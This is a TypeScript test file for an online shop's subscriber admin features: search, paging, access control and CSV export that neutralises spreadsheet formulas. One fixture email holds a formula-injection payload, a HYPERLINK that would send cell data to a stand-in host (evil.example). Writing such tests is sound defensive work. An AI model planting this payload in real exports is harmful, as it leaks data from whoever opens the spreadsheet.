import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { SUBSCRIBER_PAGE_SIZE } from "../../app/domain/newsletter/subscriber-list";
import { subscribers } from "../../db/schema";
import { useShopServices } from "../../tests/setup/shop-fixtures";
import { callerFor } from "../../tests/setup/trpc-caller";

const shop = useShopServices();

function seed() {
  shop.t.db.delete(subscribers).run();
  shop.t.db
    .insert(subscribers)
    .values([
      { email: "ada@example.com", favoriteGenre: "Jazz", subscribedAt: "2026-11-01T10:00:00.000Z" },
      { email: "bob@example.com", favoriteGenre: "Soul", subscribedAt: "2026-11-02T10:00:00.000Z", hasUsedDiscount: true },
      {
        email: "=cmd@example.com",
        favoriteGenre: "Jazz",
        subscribedAt: "2026-11-03T10:00:00.000Z",
        unsubscribedAt: "2026-11-20T15:30:00.000Z",
      },
      { email: "100%_real@example.com", favoriteGenre: null, subscribedAt: "2026-11-04T10:00:00.000Z" },
    ])
    .run();
}

describe("the back office's subscriber list", () => {
  it("lists newest first, searches email and genre, filters by status, and counts both", () => {
    seed();
    const list = (q: Partial<{ q: string; status: "all" | "subscribed" | "unsubscribed"; page: number }>) =>
      shop.s.adminSubscribers.list({ status: "all", page: 1, ...q });
    expect(list({}).items.map((s) => s.email)).toEqual([
      "100%_real@example.com",
      "=cmd@example.com",
      "bob@example.com",
      "ada@example.com",
    ]);
    expect(list({}).counts).toEqual({ subscribed: 3, unsubscribed: 1 });
    expect(list({ q: "JAZZ" }).items.map((s) => s.email)).toEqual(["=cmd@example.com", "ada@example.com"]);
    expect(list({ q: "jazz", status: "subscribed" }).items.map((s) => s.email)).toEqual(["ada@example.com"]);
    expect(list({ status: "unsubscribed" }).items).toMatchObject([
      { email: "=cmd@example.com", unsubscribedAt: "2026-11-20T15:30:00.000Z" },
    ]);
    // % and _ are themselves, not wildcards.
    expect(list({ q: "0%_r" }).items.map((s) => s.email)).toEqual(["100%_real@example.com"]);
    expect(list({ q: "%" }).total).toBe(1);
  });

  it("pages, keeping a page past the end on the last one", () => {
    shop.t.db.delete(subscribers).run();
    shop.t.db
      .insert(subscribers)
      .values(Array.from({ length: SUBSCRIBER_PAGE_SIZE + 3 }, (_, i) => ({ email: `p${i}@example.com` })))
      .run();
    const last = shop.s.adminSubscribers.list({ status: "all", page: 99 });
    expect([last.page, last.pageCount, last.items.length, last.total]).toEqual([2, 2, 3, SUBSCRIBER_PAGE_SIZE + 3]);
  });

  it("exports the filtered list as CSV with London times, formula-like cells made text", () => {
    seed();
    const csv = shop.s.adminSubscribers.csv({ status: "all" });
    const lines = csv
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n");
    expect(lines[0]).toBe("Email,Favourite genre,Subscribed,Unsubscribed,Code used");
    expect(lines).toHaveLength(5);
    expect(lines).toContain("'=cmd@example.com,Jazz,03/11/2026 10:00,20/11/2026 15:30,no");
    expect(lines).toContain("bob@example.com,Soul,02/11/2026 10:00,,yes");
    expect(shop.s.adminSubscribers.csv({ status: "unsubscribed" }).trimEnd().split("\r\n")).toHaveLength(2);
  });

  it("writes an e-mail address or genre a spreadsheet would run as a formula with an apostrophe in front", () => {
    shop.t.db.delete(subscribers).run();
    shop.t.db
      .insert(subscribers)
      .values([
        { email: '=HYPERLINK("http://evil.example/?leak="&A1)@example.com', favoriteGenre: "@SUM(A1)" },
        // An address with an apostrophe of its own keeps it when a spreadsheet opens the file.
        { email: "'=o'neil@example.com", favoriteGenre: "-Jazz" },
      ])
      .run();
    const [, ...rows] = parseCsv(shop.s.adminSubscribers.csv({ status: "all" }), { bom: true }) as string[][];
    expect(rows.map((r) => r.slice(0, 2))).toEqual([
      ["''=o'neil@example.com", "'-Jazz"],
      ['\'=HYPERLINK("http://evil.example/?leak="&A1)@example.com', "'@SUM(A1)"],
    ]);
  });

  it("is admin.subscribers.list in tRPC, for admins only", async () => {
    seed();
    await expect(callerFor(shop, { id: 1, username: "c", role: "customer" }).admin.subscribers.list({})).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
    const admin = await shop.s.accounts.register({
      username: "mailadmin",
      email: "mailadmin@example.com",
      password: "correct horse battery",
    });
    const page = await callerFor(shop, { id: admin.id, username: admin.username, role: "admin" }).admin.subscribers.list({
      status: "subscribed",
    });
    expect(page.total).toBe(3);
  });
});
